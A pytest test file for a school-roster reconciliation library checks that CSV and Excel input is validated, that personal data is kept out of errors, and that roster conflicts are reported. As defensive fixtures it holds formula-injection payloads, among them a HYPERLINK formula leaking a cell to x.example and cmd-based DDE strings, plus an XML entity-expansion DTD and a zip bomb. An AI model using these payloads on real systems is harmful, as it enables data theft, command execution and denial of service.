"""Hostile and careless roster input (issue 13): CSV and Excel files from other agencies, the
ledger CSV made for Excel, and cross-roster conflicts as findings."""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from kongchuo_rules import LedgerCategory, reconcile
from kongchuo_rules._privacy import FORMULA_TRIGGERS
from kongchuo_rules.assessment import FindingCode
from kongchuo_rules.case import national_id_check_char
from kongchuo_rules.cli import main
from kongchuo_rules.county import _csv
from kongchuo_rules.county._csv import (
    RosterError,
    read_csv_records,
    read_records,
    read_xlsx_records,
)
from kongchuo_rules.county.records import HouseholdRecord, PresenceRecord, RegistryRecord

from ._xlsx import DateSerial, sheet_xml, workbook

C = LedgerCategory
AS_OF = date(2026, 9, 30)
NAME = "张三丰"


def nid(seq: int, birth: str = "20150301") -> str:
    body = f"230321{birth}{seq:03d}"
    return body + national_id_check_char(body)


ID1 = nid(1)
FULL_WIDTH_ID1 = "".join(chr(ord(c) + 0xFEE0) for c in ID1)
ARABIC_INDIC_ID1 = "".join(chr(0x0660 + int(c)) if c.isdigit() else c for c in ID1)
SECRETS = (ID1, NAME, "13800000000")


def write(tmp_path: Path, text: str, name: str = "roster.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def refused(path: Path, model: type[Any] = HouseholdRecord) -> str:
    with pytest.raises(RosterError) as info:
        read_records(path, model)
    message = str(info.value)
    assert isinstance(info.value, ValueError)
    assert path.name in message
    for secret in SECRETS:
        assert secret not in message, message
    return message


# -- CSV -----------------------------------------------------------------------------------------


def test_a_roster_without_header_names_positions_never_values(tmp_path: Path) -> None:
    path = write(tmp_path, f"{ID1},2015-03-01,鸡东镇,{NAME}\n{nid(2)},2015-03-01,鸡东镇,李四\n")
    message = refused(path)
    assert "line 1: unknown column name(s) in column 1, column 2, column 3, column 4" in message
    assert "looks like data: the first row must be a header row" in message
    assert "李四" not in message
    assert "鸡东镇" not in message


def test_duplicate_columns_are_an_error_naming_both(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        f"national_id,birth_date,township,身份证号\n{ID1},2015-03-01,鸡东镇,{nid(2)}\n",
    )
    message = refused(path)
    assert "line 1: column 1 and column 4 both give 'national_id'" in message


def test_a_ragged_row_is_an_error_not_a_lost_cell(tmp_path: Path) -> None:
    path = write(tmp_path, f"national_id,birth_date,township,name\n{ID1},2015-03-01,鸡东镇,张,三\n")
    message = refused(path)
    assert "line 2: 5 cells where the header (line 1) has 4" in message
    assert "张" not in message
    short = write(tmp_path, f"national_id,birth_date,township,name\n{ID1},2015-03-01\n", "s.csv")
    assert "line 2: 2 cells where the header (line 1) has 4" in refused(short)


def test_trailing_blank_cells_and_blank_rows_are_fine(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        f"national_id,birth_date,township,\n\n{ID1},2015-03-01,鸡东镇,\n,,,\n",
    )
    assert [r.national_id for r in read_records(path, HouseholdRecord)] == [ID1]


@pytest.mark.parametrize("length", [32_768, 131_073, 400_000])
def test_a_huge_cell_is_a_clear_error(tmp_path: Path, length: int) -> None:
    path = write(tmp_path, f"national_id,birth_date,township\n{ID1},2015-03-01,{'镇' * length}\n")
    message = refused(path)
    assert "line 2" in message
    assert "a cell longer than" in message
    assert "镇镇" not in message


def test_nul_and_missing_columns(tmp_path: Path) -> None:
    nul = write(tmp_path, f"national_id,birth_date,township\n{ID1},2015-03-01,鸡\0东\n")
    assert "NUL" in refused(nul)
    missing = write(tmp_path, f"national_id,township\n{ID1},鸡东镇\n", "m.csv")
    assert "missing column(s) birth_date" in refused(missing)
    empty = write(tmp_path, "\n\n", "e.csv")
    assert "empty file" in refused(empty)


def test_a_value_in_an_unnamed_column_is_an_error(tmp_path: Path) -> None:
    path = write(tmp_path, f"national_id,,birth_date,township\n{ID1},{NAME},2015-03-01,鸡东镇\n")
    assert "line 2, column 2: a value in a column without a name" in refused(path)


def test_roster_dates_are_strict(tmp_path: Path) -> None:
    path = write(tmp_path, f"national_id,birth_date,township\n{ID1},1425139200,鸡东镇\n")
    assert "column 2 (birth_date): not a valid date" in refused(path)


def test_full_width_ids_are_one_child_everywhere(tmp_path: Path) -> None:
    path = write(tmp_path, f"身份证号,出生日期,乡镇\n{FULL_WIDTH_ID1},2015-03-01,鸡东镇\n")
    [record] = read_records(path, HouseholdRecord)
    assert record.national_id == ID1
    ledger = reconcile(
        as_of=AS_OF,
        household=[record],
        registry=[
            {"national_id": FULL_WIDTH_ID1, "student_id": "R1", "school_id": "S1", "grade": 5}
        ],
        presence=[{"national_id": ID1, "school_id": "S1"}],
    )
    assert len(ledger.entries) == 1
    assert ledger.entries[0].category is C.IN_SCHOOL
    assert ledger.entry(FULL_WIDTH_ID1) is ledger.entries[0]


def test_arabic_indic_digits_are_refused_everywhere(tmp_path: Path) -> None:
    path = write(tmp_path, f"national_id,birth_date,township\n{ARABIC_INDIC_ID1},2015-03-01,镇\n")
    message = refused(path)
    assert "column 1 (national_id): not a valid 18-character national id" in message
    assert ARABIC_INDIC_ID1 not in message
    with pytest.raises(RosterError) as info:
        reconcile(as_of=AS_OF, presence=[{"national_id": ARABIC_INDIC_ID1, "school_id": "S1"}])
    assert "presence, record 1: national_id: not a valid" in str(info.value)


def test_reconcile_dicts_are_checked_without_echo() -> None:
    with pytest.raises(RosterError) as info:
        reconcile(as_of=AS_OF, household=[{"national_id": ID1, NAME: 1, "birth_date": "x"}])
    message = str(info.value)
    assert message.startswith("household, record 1: ")
    assert "unknown field (key no. 2 of 3;" in message
    assert NAME not in message
    assert ID1 not in message


def test_assessment_keys_are_normalised_and_checked() -> None:
    from kongchuo_rules import assess

    a = assess(
        {"student": {"id": "S-1", "birth_date": "2015-03-01", "registered": True}},
        as_of=AS_OF,
    )
    ledger = reconcile(as_of=AS_OF, assessments={FULL_WIDTH_ID1: a})
    assert [e.national_id for e in ledger.entries] == [ID1]
    for bad in ({NAME: a}, {ID1: a, FULL_WIDTH_ID1: a}):
        with pytest.raises(RosterError) as info:
            reconcile(as_of=AS_OF, assessments=bad)
        assert "assessments, key no." in str(info.value)
        assert NAME not in str(info.value)


# -- the ledger CSV ------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_ledger_csv_neutralises_every_formula_cell() -> None:
    household = [
        {"national_id": nid(i), "birth_date": "2015-03-01", "township": t, "name": t}
        for i, t in enumerate(HOSTILE, 1)
    ]
    registry = [
        {"national_id": nid(i), "student_id": f"R{i}", "school_id": s, "grade": 5}
        for i, s in enumerate(HOSTILE, 1)
    ]
    ledger = reconcile(as_of=AS_OF, household=household, registry=registry)
    for include_names in (False, True):
        rows = cells(ledger.to_csv(include_names=include_names))
        assert len(rows) == 1 + len(ledger.entries)  # a CR or LF in a cell never splits a row
        data = [cell for row in rows[1:] for cell in row]
        assert sum(cell.startswith("'") for cell in data) == len(HOSTILE) * (
            3 if include_names else 2
        )
        for row in rows[1:]:
            assert row[0].startswith("\t")
            assert re.fullmatch(r"\t[0-9]{17}[0-9X]", row[0])
            for cell in row[1:]:
                assert not cell.startswith(FORMULA_TRIGGERS), cell
    bare = cells(ledger.to_csv(ids_as_text=False))
    assert [r[0] for r in bare[1:]] == [e.national_id for e in ledger.entries]


def test_the_ledger_csv_reads_back_through_the_roster_reader(tmp_path: Path) -> None:
    ledger = reconcile(
        as_of=AS_OF,
        presence=[{"national_id": nid(i), "school_id": "S1"} for i in range(1, 4)],
    )
    text = ledger.to_csv()
    path = tmp_path / "presence.csv"
    rows = cells(text)
    path.write_text(
        "national_id,school_id\n" + "".join(f'"{r[0]}",{r[5]}\n' for r in rows[1:]),
        encoding="utf-8",
    )
    assert [r.national_id for r in read_records(path, PresenceRecord)] == [
        nid(i) for i in range(1, 4)
    ]


# -- Excel ---------------------------------------------------------------------------------------

HEADER = ["national_id", "birth_date", "township", "name"]


def xlsx(
    tmp_path: Path, rows: list[list[Any]] | None = None, name: str = "r.xlsx", **kw: Any
) -> Path:
    path = tmp_path / name
    path.write_bytes(workbook(rows or [], **kw))
    return path


def test_a_workbook_is_read_like_a_csv_file(tmp_path: Path) -> None:
    path = xlsx(
        tmp_path,
        [
            [],
            ["身份证号", "出生日期", "乡镇", "姓名", None],
            [ID1, DateSerial(42064), "鸡东镇", NAME, None],  # 2015-03-01 as a date cell
            [None, None, None, None, None],
            [nid(2), "2015-03-01", "永安镇", None, None],
        ],
    )
    records = read_records(path, HouseholdRecord)
    assert [(r.national_id, r.birth_date, r.township) for r in records] == [
        (ID1, date(2015, 3, 1), "鸡东镇"),
        (nid(2), date(2015, 3, 1), "永安镇"),
    ]
    assert read_xlsx_records(path, HouseholdRecord) == records
    # given where a CSV file was expected (the CLI's --household), it is read as a workbook
    assert read_csv_records(path, HouseholdRecord) == records
    grade = xlsx(
        tmp_path,
        [["national_id", "student_id", "school_id", "grade"], [ID1, "R1", "S1", 5.0]],
        "g.xlsx",
    )
    assert read_records(grade, RegistryRecord)[0].grade == 5
    # a short numeric student id is exact; a long one is not
    short = xlsx(
        tmp_path,
        [["national_id", "student_id", "school_id", "grade"], [ID1, 1001, "S1", 5]],
        "n.xlsx",
    )
    assert read_records(short, RegistryRecord)[0].student_id == "1001"
    long = xlsx(
        tmp_path,
        [["national_id", "student_id", "school_id", "grade"], [ID1, 2.3e17, "S1", 5]],
        "o.xlsx",
    )
    assert "column B (student_id): a number, not text" in refused(long, RegistryRecord)


def test_a_national_id_stored_as_a_number_is_refused(tmp_path: Path) -> None:
    path = xlsx(tmp_path, [HEADER, [230321201503010010, "2015-03-01", "鸡东镇", NAME]])
    message = refused(path)
    assert "row 2, column A (national_id): a number, not text" in message
    assert "2303212015" not in message


def test_workbook_errors_name_row_and_column_letter(tmp_path: Path) -> None:
    headerless = xlsx(tmp_path, [[ID1, "2015-03-01", "鸡东镇", NAME]], "h.xlsx")
    assert "row 1: unknown column name(s) in column A, column B, column C, column D" in (
        refused(headerless)
    )
    twice = xlsx(tmp_path, [["national_id", "身份证号码", "birth_date", "township"]], "t.xlsx")
    assert "column A and column B both give 'national_id'" in refused(twice)
    timed = xlsx(tmp_path, [HEADER, [ID1, DateSerial(42064.5), "鸡东镇", NAME]], "d.xlsx")
    assert "row 2, column B (birth_date): a date and time" in refused(timed)
    long = xlsx(tmp_path, [HEADER, [ID1, "2015-03-01", "镇" * 40_000, NAME]], "l.xlsx")
    assert "row 2, column C (township): a cell longer than 32,767 characters" in refused(long)
    bad = xlsx(tmp_path, [HEADER, [ID1, "2015-03-01", "鸡东镇", "x" * 101]], "b.xlsx")
    assert "row 2, column D (name): must have at most 100 characters" in refused(bad)


def test_hostile_workbooks_are_refused_before_they_are_parsed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    laughs = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    )
    dtd = xlsx(tmp_path, sheet=sheet_xml([HEADER, ["&lol3;"]], doctype=laughs), name="x.xlsx")
    assert "holds an XML DTD" in refused(dtd)
    # one cell in A1 and one in XFD1048576: 17 billion cells for the reader to allocate
    far = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        '.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        'national_id</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        "</sheetData></worksheet>"
    )
    assert "uses more than 5,000,000 cells" in refused(xlsx(tmp_path, sheet=far, name="f.xlsx"))
    # cells without a reference count one by one
    wide = sheet_xml([HEADER]).replace(
        "</sheetData>", '<row r="2000">' + "<c/>" * 3000 + "</row></sheetData>"
    )
    assert "uses more than" in refused(xlsx(tmp_path, sheet=wide, name="w.xlsx"))
    # a zip bomb: counted as it unpacks, whatever the zip headers claim
    monkeypatch.setattr(_csv, "MAX_WORKBOOK_BYTES", 2**20)
    bomb = xlsx(tmp_path, [HEADER], extra={"xl/media/pad.bin": b"\0" * 2**21}, name="z.xlsx")
    assert "unpacks to more than 1 MiB" in refused(bomb)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"PK\x03\x04 not really a zip", "not a readable .xlsx workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old Excel (.xls) or password"),
        (b"national_id,birth_date\n", "not a readable .xlsx workbook"),
    ],
)
def test_damaged_workbooks(tmp_path: Path, content: bytes, expected: str) -> None:
    name = "x.xls" if content.startswith(b"\xd0") else "x.xlsx"
    path = tmp_path / name
    path.write_bytes(content)
    assert expected in refused(path)


def test_a_truncated_workbook_and_a_missing_sheet(tmp_path: Path) -> None:
    data = workbook([HEADER, [ID1, "2015-03-01", "鸡东镇", NAME]])
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: len(data) // 2])
    assert "not a readable .xlsx workbook" in refused(path)
    whole = xlsx(tmp_path, [HEADER], name="s.xlsx", sheet_name="户籍")
    with pytest.raises(RosterError, match="no worksheet of that name"):
        read_records(whole, HouseholdRecord, sheet="其他")
    assert read_records(whole, HouseholdRecord, sheet="户籍") == []
    members = zipfile.ZipFile(io.BytesIO(workbook([HEADER]))).namelist()
    assert "xl/worksheets/sheet1.xml" in members


def test_without_the_excel_extra_the_error_says_what_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "python_calamine", None)
    assert "needs the 'excel' extra" in refused(xlsx(tmp_path, [HEADER]))


def test_the_ledger_command_reads_a_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = xlsx(tmp_path, [HEADER, [ID1, "2015-03-01", "鸡东镇", NAME]], "household.xlsx")
    out = tmp_path / "ledger.csv"
    assert (
        main(["ledger", "--household", str(path), "--as-of", "2026-09-30", "--csv", str(out)]) == 0
    )
    assert "待核查 (to_verify): 1" in capsys.readouterr().out
    assert NAME not in out.read_text(encoding="utf-8-sig")


# -- cross-roster conflicts: findings, never silent (PRODUCT.md §6.1) ---------------------------


def findings(ledger: Any, code: FindingCode) -> list[Any]:
    return [f for f in ledger.findings if f.code is code]


def household(seq: int) -> dict[str, Any]:
    return {"national_id": nid(seq), "birth_date": "2015-03-01", "township": "鸡东镇"}


def registry(seq: int, school: str = "S1", status: str = "enrolled") -> dict[str, Any]:
    return {
        "national_id": nid(seq),
        "student_id": f"R{seq}",
        "school_id": school,
        "grade": 5,
        "status": status,
    }


def presence(seq: int, school: str = "S1") -> dict[str, Any]:
    return {"national_id": nid(seq), "school_id": school}


def assert_private(ledger: Any) -> None:
    for finding in ledger.findings:
        assert finding.national_id is not None
        assert finding.national_id not in finding.message


@pytest.mark.parametrize("status", ["dropout", "suspected_dropout"])
def test_marked_dropout_yet_present(status: str) -> None:
    ledger = reconcile(
        as_of=AS_OF,
        household=[household(1), household(2)],
        registry=[registry(1, status=status), registry(2)],
        presence=[presence(1), presence(2)],
    )
    [finding] = findings(ledger, FindingCode.MARKED_DROPOUT_PRESENT)
    assert finding.national_id == nid(1)
    assert "S1" in finding.message
    assert ledger.entry(nid(1)).category is C(status)  # the ledger shows the mark and flags it
    assert_private(ledger)


def test_registered_at_one_school_present_at_another() -> None:
    ledger = reconcile(
        as_of=AS_OF,
        household=[household(1), household(2)],
        registry=[registry(1, "S1"), registry(2, "S2")],
        presence=[presence(1, "S2"), presence(2, "S2")],
    )
    [finding] = findings(ledger, FindingCode.PRESENT_AT_OTHER_SCHOOL)
    assert finding.national_id == nid(1)
    assert "registered at S1 but on the presence roster of S2" in finding.message
    assert_private(ledger)


@pytest.mark.parametrize("how", ["elsewhere", "survey"])
def test_verified_elsewhere_yet_enrolled_and_present_here(how: str) -> None:
    proof: dict[str, Any] = (
        {"elsewhere": [{"national_id": nid(1), "place": "哈尔滨市"}]}
        if how == "elsewhere"
        else {"surveys": [{"national_id": nid(1), "finding": "studying_elsewhere"}]}
    )
    ledger = reconcile(
        as_of=AS_OF,
        household=[household(1)],
        registry=[registry(1)],
        presence=[presence(1)],
        **proof,
    )
    [finding] = findings(ledger, FindingCode.ELSEWHERE_BUT_HERE)
    assert "registered and present" in finding.message
    assert "哈尔滨" not in finding.message
    assert_private(ledger)


@pytest.mark.parametrize(
    "decision",
    [
        {"decisions": [{"national_id": nid(1), "kind": "exempt"}]},
        {"decisions": [{"national_id": nid(1), "kind": "deferred", "until": "2027-09-01"}]},
        {"registry": [registry(1, status="suspended")]},
    ],
)
def test_exempt_or_deferred_yet_present(decision: dict[str, Any]) -> None:
    ledger = reconcile(as_of=AS_OF, household=[household(1)], presence=[presence(1)], **decision)
    [finding] = findings(ledger, FindingCode.EXEMPT_OR_DEFERRED_PRESENT)
    assert finding.national_id == nid(1)
    assert ledger.entry(nid(1)).category in (C.EXEMPT, C.DEFERRED)
    assert_private(ledger)


def test_a_deferral_that_has_ended_is_no_conflict() -> None:
    ledger = reconcile(
        as_of=AS_OF,
        household=[household(1)],
        decisions=[{"national_id": nid(1), "kind": "deferred", "until": "2026-09-01"}],
        registry=[registry(1)],
        presence=[presence(1)],
    )
    assert not ledger.findings
